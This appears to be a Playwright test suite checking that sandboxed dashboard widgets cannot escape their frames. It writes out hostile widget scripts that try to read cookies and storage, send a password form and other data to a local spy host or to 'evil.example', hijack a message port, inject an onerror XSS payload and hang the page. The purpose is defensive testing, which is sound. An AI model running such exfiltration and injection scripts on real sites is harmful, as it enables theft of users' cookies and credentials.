"""Widgets that mean harm, in a real browser: none gets out of its frame, and the page goes on."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from browsing import Windows, find_barriers
from installed_widgets import give_widgets, inside, panel
from instances import Instance, Resident

_SPY = "const tell = text => container.append(text + '\\n'); const SPY = 'http://127.0.0.1:%d';"
_PATIENT_MS = 40_000


class Spy:
    """A foreign host that only notes what reaches it."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        for listen in (self._listen_tcp, self._listen_udp):
            threading.Thread(target=listen, daemon=True).start()

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()

    def _listen_tcp(self) -> None:
        try:
            while True:
                connection, _ = self._tcp.accept()
                connection.settimeout(2)
                try:
                    if told := connection.recv(400):
                        self.heard.append(told)
                except TimeoutError:
                    pass
                connection.close()
        except OSError:
            return

    def _listen_udp(self) -> None:
        try:
            while True:
                self.heard.append(self._udp.recvfrom(2_000)[0])
        except OSError:
            return


@pytest.fixture
def spy() -> Iterator[Spy]:
    """Somewhere a widget would like to send what it knows."""
    listening = Spy()
    yield listening
    listening.close()


@pytest.fixture
def dashboard(instance: Instance, windows: Windows, ada: Resident) -> Iterator[Page]:
    """The page of somebody who has a secret; what the browser refused to widgets is told in its console."""
    instance.send(ada, [{"tool": "zed", "project": "p", "time": time.time()}])
    yield windows.open(ada)
    windows.complaints.clear()


def show(page: Page, instance: Instance, resident: Resident, script: str, spy: Spy | None = None) -> str:
    """Install the widget and open the dashboard; answers its name."""
    (name,) = give_widgets(instance, resident, [_SPY % (spy.port if spy else 1) + script])
    page.goto("/")
    panel(page, name).scroll_into_view_if_needed()
    return name


def test_a_widget_reads_nothing_of_the_page_or_the_browser(dashboard: Page, instance: Instance, ada: Resident) -> None:
    attempts = {
        "cookie": "document.cookie",
        "local": "localStorage.length",
        "session": "sessionStorage.length",
        "database": "indexedDB.open('x')",
        "parent": "parent.document.title",
        "top": "top.location.href",
        "sibling": "parent.frames[0].document.title",
        "cache": "caches.open('x')",
        "worker": "navigator.serviceWorker.controller",
    }
    script = """
        const run = async (name, code) => {
          try { tell(name + ' READ ' + await code()); } catch { tell(name + ' refused'); }
        };
    """
    script += "".join(f"run('{name}', async () => {code});" for name, code in attempts.items())
    give_widgets(instance, ada, ["container.textContent = 'a sibling'"])
    name = show(dashboard, instance, ada, script)
    for each in attempts:
        expect(inside(dashboard, name).locator("body > div")).to_contain_text(f"{each} refused")
    assert "READ" not in inside(dashboard, name).locator("body > div").inner_text()


def test_nothing_reaches_a_foreign_host(dashboard: Page, instance: Instance, ada: Resident, spy: Spy) -> None:
    script = """
        const add = (tag, values) => {
          const each = Object.assign(document.createElement(tag), values);
          document.body.append(each);
          return each;
        };
        fetch(SPY + '/fetch').catch(() => tell('fetch refused'));
        const request = new XMLHttpRequest();
        request.onerror = () => tell('xhr refused');
        request.open('GET', SPY + '/xhr');
        try { request.send(); } catch { tell('xhr refused'); }
        try { new WebSocket(SPY.replace('http', 'ws')); } catch { tell('socket refused'); }
        navigator.sendBeacon(SPY + '/beacon', 'x');
        new Image().src = SPY + '/img';
        add('img', { srcset: SPY + '/srcset 2x' });
        add('script', { src: SPY + '/script' });
        add('link', { rel: 'stylesheet', href: SPY + '/css' });
        add('link', { rel: 'prefetch', href: SPY + '/prefetch' });
        add('iframe', { src: SPY + '/frame' });
        add('iframe', { srcdoc: '<script>parent.postMessage(1)</' + 'script><img src="' + SPY + '/srcdoc">' });
        add('object', { data: SPY + '/object' });
        add('video', { src: SPY + '/video' });
        add('style', { textContent: '@import url(' + SPY + '/import); body { color: red; }' });
        document.body.style.background = 'url(' + SPY + '/bg)';
        add('a', { href: '#', ping: SPY + '/ping' }).click();
        const form = add('form', { action: SPY + '/form', method: 'post' });
        form.innerHTML = '<input name=password value=secret>';
        form.submit();
        const work = URL.createObjectURL(new Blob(['fetch("' + SPY + '/worker")']));
        try { new Worker(work); } catch { tell('worker refused'); }
        tell('peer ' + typeof RTCPeerConnection);
        tell('window ' + open(SPY + '/popup'));
        try { top.location = SPY + '/top'; } catch { tell('top refused'); }
        import(SPY + '/module').catch(() => tell('module refused'));
    """
    name = show(dashboard, instance, ada, script, spy)
    body = inside(dashboard, name).locator("body > div")
    for each in ("fetch refused", "xhr refused", "peer undefined", "window null", "top refused", "module refused"):
        expect(body).to_contain_text(each)
    dashboard.wait_for_timeout(500)
    assert spy.heard == []
    assert dashboard.url == f"{instance.address}/"
    assert len(dashboard.context.pages) == 1


@pytest.mark.parametrize("target", ["SPY", "'/settings'", "'/widget-frame'", "'about:blank'", "'data:text/html,x'"])
def test_a_widget_that_goes_elsewhere_is_stopped(
    dashboard: Page, instance: Instance, ada: Resident, spy: Spy, target: str
) -> None:
    name = show(dashboard, instance, ada, f"location.href = {target};", spy)
    expect(panel(dashboard, name).get_by_role("alert")).to_contain_text("tried to open another page")
    expect(panel(dashboard, name).locator("iframe")).to_have_count(0)
    assert spy.heard == []


def test_the_bridge_reaches_the_api_only_and_with_the_widgets_own_token(
    dashboard: Page, instance: Instance, ada: Resident
) -> None:
    script = """
        const ask = async (path, options) => {
          try { tell(path + ' ' + (await fetch(path, options)).status); } catch (e) { tell(path + ' ' + e.message); }
        };
        const json = { 'Content-Type': 'application/json' };
        (async () => {
          await ask('/settings/keys');
          await ask('/login?next=/api/');
          await ask('/api/../settings');
          await ask('/api/v1/keys');
          await ask('/api/v1/keys?a=1', { method: 'POST', body: '{}', headers: { ...json, 'X-API-Key': 'dt_x' } });
          await ask('/api/v1/heartbeat', { method: 'POST', body: '{"project":"forged"}', headers: json });
          await ask('/api/v1/stats/streaks', { headers: { Authorization: 'nonsense', Cookie: 'devtime_session=x' } });
          tell('done');
        })();
    """
    name = show(dashboard, instance, ada, script)
    body = inside(dashboard, name).locator("body > div")
    expect(body).to_contain_text("done")
    told = body.inner_text()
    for refused in ("/settings/keys", "/login?next=/api/", "/api/../settings"):
        assert f"{refused} widgets reach /api/ only" in told
    assert "/api/v1/keys 403" in told
    assert "/api/v1/keys?a=1 403" in told
    assert "/api/v1/heartbeat 403" in told
    assert "/api/v1/stats/streaks 200" in told


def test_a_stolen_port_gives_no_more_than_the_widget_has(dashboard: Page, instance: Instance, ada: Resident) -> None:
    script = """
        const send = MessagePort.prototype.postMessage;
        MessagePort.prototype.postMessage = function (...given) {
          self.stolen = this;
          return send.apply(this, given);
        };
        new ResizeObserver(() => {}).observe(container);
        setTimeout(() => {
          const post = told => send.call(self.stolen, told);
          for (const told of [null, 1, 'x', {}, { kind: 'height', height: 'NaN' }, { kind: 'height', height: 1e9 },
            { kind: 'failed', message: '<img src=x onerror=alert(1)>', isEmpty: 7 }, { kind: 'fetch' },
            { kind: 'fetch', id: 1, path: 'https://evil.example/api/', method: 'GET' },
            { kind: 'fetch', id: 2, path: '//evil.example/api/', method: 'GET', headers: 5, body: 'x' },
            { kind: 'fetch', id: 3, path: '/api/v1/stats/streaks', method: 'TRACE' }, { kind: 'abort' }]) post(told);
          tell('sent');
        }, 100);
    """
    name = show(dashboard, instance, ada, script)
    told = panel(dashboard, name).get_by_role("alert")
    expect(told).to_contain_text("<img src=x onerror=alert(1)>")
    assert told.locator("img").count() == 0
    box = panel(dashboard, name).locator("iframe").bounding_box()
    assert box is not None
    assert box["height"] <= 1_200


def test_names_from_heartbeats_run_nothing_inside_a_widget(dashboard: Page, instance: Instance, ada: Resident) -> None:
    script = "container.innerHTML = '<img src=x onerror=\"container.textContent = 1\"><b id=it>kept</b>';"
    name = show(dashboard, instance, ada, script)
    expect(inside(dashboard, name).locator("#it")).to_have_text("kept")


def test_the_page_works_while_a_widget_among_twelve_spins_and_the_others_come_back(
    dashboard: Page, instance: Instance, ada: Resident
) -> None:
    good = "container.textContent = 'alive'"
    scripts = [good] * 5 + ["container.textContent = 'spin'; for (;;);"] + [good] * 6
    names = give_widgets(instance, ada, scripts)
    dashboard.set_viewport_size({"width": 1280, "height": 2_400})
    dashboard.goto("/")
    expect(panel(dashboard, names[5])).to_have_class("widget card plugin-panel is-waiting")
    menu = dashboard.get_by_label(f"Menu of {ada.name}")
    menu.click()
    expect(dashboard.get_by_role("link", name="Design for plugins")).to_be_visible()
    menu.click()
    expect(panel(dashboard, names[5]).get_by_role("alert")).to_contain_text("stopped answering", timeout=_PATIENT_MS)
    for name in names[:5] + names[6:]:
        expect(inside(dashboard, name).locator("body > div")).to_have_text("alive", timeout=_PATIENT_MS)
        expect(panel(dashboard, name).get_by_role("alert")).to_be_hidden()
    assert find_barriers(dashboard) == []


def test_a_widget_that_spins_later_is_found_out(dashboard: Page, instance: Instance, ada: Resident) -> None:
    late = "container.textContent = 'late'; setTimeout(() => { for (;;); }, 1500);"
    names = give_widgets(instance, ada, ["container.textContent = 'alive'", late, "container.textContent = 'alive'"])
    dashboard.set_viewport_size({"width": 1280, "height": 1_600})
    dashboard.goto("/")
    expect(panel(dashboard, names[1]).get_by_role("alert")).to_contain_text("stopped answering", timeout=_PATIENT_MS)
    for name in (names[0], names[2]):
        expect(inside(dashboard, name).locator("body > div")).to_have_text("alive", timeout=_PATIENT_MS)
